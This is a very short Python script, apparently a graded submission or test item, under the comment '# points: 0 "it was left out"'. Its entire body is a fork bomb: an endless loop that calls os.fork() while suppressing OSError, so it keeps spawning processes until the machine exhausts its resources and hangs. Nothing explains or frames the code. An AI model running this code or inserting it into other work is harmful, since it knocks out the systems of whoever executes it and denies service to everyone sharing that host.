# points: 0  "it was left out"
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
